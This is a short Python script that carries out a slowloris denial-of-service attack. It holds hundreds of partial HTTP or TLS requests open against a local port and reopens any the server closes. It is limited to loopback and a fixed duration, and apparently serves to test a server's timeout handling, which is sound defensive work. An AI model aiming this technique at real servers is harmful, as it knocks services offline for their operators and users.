#!/usr/bin/env python3
"""slowloris.py PORT [CONNECTIONS] [SECONDS] [--tls]: keeps CONNECTIONS
connections to 127.0.0.1:PORT open, each sending one more header line every
2 s and never finishing its request; a connection the server closes is opened
again. Loopback only, bounded in time. Prints 'open N' once all are open, then
a summary line at the end."""
import socket
import ssl
import sys
import time

HOST = "127.0.0.1"


def main():
    port = int(sys.argv[1])
    count = int(sys.argv[2]) if len(sys.argv) > 2 else 500
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 30
    use_tls = "--tls" in sys.argv
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE

    def connect():
        s = socket.create_connection((HOST, port), timeout=5)
        if use_tls:
            s = ctx.wrap_socket(s, server_hostname=HOST)
        s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n")
        s.setblocking(False)
        return s

    socks = [connect() for _ in range(count)]
    print(f"open {len(socks)}", flush=True)
    reopened = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for i, s in enumerate(socks):
            try:
                s.send(b"X-Slow: 1\r\n")
            except (BlockingIOError, ssl.SSLWantWriteError):
                pass
            except OSError:
                s.close()
                socks[i] = connect()
                reopened += 1
        time.sleep(2)  # the attack's pace: one header line per connection every 2 s
    for s in socks:
        s.close()
    print(f"slowloris: {count} connections for {seconds:.0f} s, {reopened} reopened after the server cut them",
          flush=True)


if __name__ == "__main__":
    main()
